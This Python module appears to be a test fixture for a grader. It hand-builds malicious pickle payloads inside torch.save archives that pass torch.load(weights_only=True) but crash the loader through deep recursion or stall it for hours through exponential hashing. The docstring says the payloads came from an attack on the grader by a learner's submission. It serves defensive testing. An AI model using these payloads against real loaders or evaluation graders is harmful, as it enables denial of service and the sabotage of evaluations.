"""Records a learner's kernel can send that torch.load(weights_only=True) reads as plain data, yet that cost the
reader without bound (found by an outside attack on the grader): built by hand, opcode by opcode, so that no process
pays their cost before the grader would."""
import io
import struct
import zipfile

import torch


def _text(s: str) -> bytes:
    b = s.encode()
    return b"X" + struct.pack("<I", len(b)) + b


def _with_pickle(pickle_bytes: bytes) -> bytes:
    """A torch.save archive of a valid record, with its data.pkl replaced."""
    buffer = io.BytesIO()
    torch.save([("end", "done")], buffer)
    src, out = zipfile.ZipFile(io.BytesIO(buffer.getvalue())), io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_STORED) as dst:
        for info in src.infolist():
            data = src.read(info)
            dst.writestr(info.filename, pickle_bytes if info.filename.endswith("/data.pkl") else data)
    return out.getvalue()


def deep(depth: int = 1_000_000) -> bytes:
    """A tuple nested `depth` deep used as a dict key: hashing it recurses in C without a guard (a crash)."""
    p = bytearray(b"\x80\x02]((" + _text("value") + _text("x") + b"}")
    p += b")" + b"\x85" * depth + b"K\x01s"
    p += b"Nt(" + _text("end") + _text("done") + b"te."
    return _with_pickle(bytes(p))


def shared(width: int = 40, depth: int = 8) -> bytes:
    """A tuple of `width` references to the level below, `depth` levels, as a dict key: width**depth leaves to hash
    from a record of 1.6 KB (hours)."""
    p = bytearray(b"\x80\x02](" + b"(" + _text("value") + _text("x") + b"}(")
    p += b"(" * depth + b"K\x00" * width + b"t" + b"r" + struct.pack("<I", 0)
    for level in range(1, depth):
        p += (b"j" + struct.pack("<I", level - 1)) * (width - 1) + b"t" + b"r" + struct.pack("<I", level)
    p += b"K\x01" + b"u" + b"N" + b"t" + b"(" + _text("end") + _text("done") + b"t" + b"e."
    return _with_pickle(bytes(p))
